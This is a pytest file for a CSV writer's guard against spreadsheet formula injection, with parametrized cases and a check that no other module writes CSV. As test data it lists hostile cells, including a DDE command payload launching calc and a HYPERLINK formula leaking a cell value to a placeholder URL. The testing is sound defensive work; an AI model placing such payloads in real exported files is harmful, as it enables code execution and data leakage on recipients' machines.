"""What is written as CSV is opened in spreadsheets, which run what looks like a formula."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest

from analytics.csv_file import guarded, write_rows, write_table

ROOT = Path(__file__).resolve().parents[2]
CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x?"&A1)', '\'=HYPERLINK("http://x?"&A1)'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3+cmd", "'-2+3+cmd"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("＝1+1", "'＝1+1"),
    ("=a\n=b", "'=a\n=b"),
    ("-", "'-"),
    # What is no formula stays as it is.
    ("-12.50", "-12.50"),
    ("-1.5e-7", "-1.5e-7"),
    ("+4930123456", "+4930123456"),
    ("a=b", "a=b"),
    ("'=1", "'=1"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_a_formula_becomes_a_text(text: str, cell: str) -> None:
    assert guarded(text) == cell


@pytest.mark.parametrize("number", [-12, -1.5, Decimal("-0.10"), None, True])
def test_a_number_stays_one(number: object) -> None:
    assert guarded(number) is number


def test_rows_and_tables_are_written_alike(tmp_path: Path) -> None:
    rows = [{"=name": text, "n": -number} for number, (text, _) in enumerate(CELLS)]
    wanted = [["'=name", "n"], *([cell, str(-n)] for n, (_, cell) in enumerate(CELLS))]
    text = io.StringIO(newline="")
    write_rows(text, list(rows[0]), rows)
    assert list(csv.reader(io.StringIO(text.getvalue(), newline=""))) == wanted
    write_table(pa.Table.from_pylist(rows), tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == wanted


def test_there_is_no_other_writer() -> None:
    """Whoever writes CSV past this module writes it unguarded."""
    writers = {"writer", "DictWriter", "write_csv", "to_csv"}
    found = [
        str(path.relative_to(ROOT))
        for folder in ("analytics", "connectors", "expectations", "o2o", "warehouse")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in writers
    ]
    assert set(found) == {"analytics/csv_file.py"}
